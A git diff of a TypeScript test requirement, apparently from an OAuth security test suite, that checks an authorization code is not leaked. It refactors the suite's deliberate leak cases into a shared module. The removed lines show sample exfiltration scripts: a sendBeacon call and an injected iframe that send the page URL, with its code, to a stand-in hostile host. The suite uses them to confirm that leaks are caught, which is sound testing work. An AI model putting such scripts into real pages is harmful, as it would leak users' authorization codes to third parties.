@@ -1,12 +1,9 @@
 import { requirement, type UndatedRequirement } from '../../../../protocol/requirement.js';
 import { met, notReached, unmet } from '../../../../protocol/verdict.js';
-import { leak, scriptedHandOver } from '../../http/leaks.js';
-import { hostileHost } from '../../return/values.js';
+import { leak, leakyHandOvers, scriptedHandOver } from '../../http/leaks.js';
 import { oauthRfc } from '../../sources.js';
 import { honestVisits } from '../../visits.js';
 import { codeOf } from '../seen.js';
-
-const third = `https://${hostileHost}`;
 
 /** A code is for the docs host's eyes. */
 export const codeNotLeaked: UndatedRequirement = requirement({
@@ -32,13 +29,11 @@ export const codeNotLeaked: UndatedRequirement = requirement({
   brokenBy: [
     {
       name: 'analytics-beacon',
-      change: scriptedHandOver(`navigator.sendBeacon('${third}/collect', JSON.stringify({ u }));`),
+      change: leakyHandOvers.beacon,
     },
     {
       name: 'foreign-frame',
-      change: scriptedHandOver(
-        `const f = document.createElement('iframe'); f.src = '${third}/frame?page=' + encodeURIComponent(u); document.documentElement.append(f);`,
-      ),
+      change: leakyHandOvers.foreignFrame,
     },
     {
       name: 'post-message-star',
@@ -46,7 +41,7 @@ export const codeNotLeaked: UndatedRequirement = requirement({
     },
     {
       name: 'code-in-local-storage',
-      change: scriptedHandOver(`localStorage.setItem('next', u);`),
+      change: leakyHandOvers.localStorage,
     },
   ],
 });
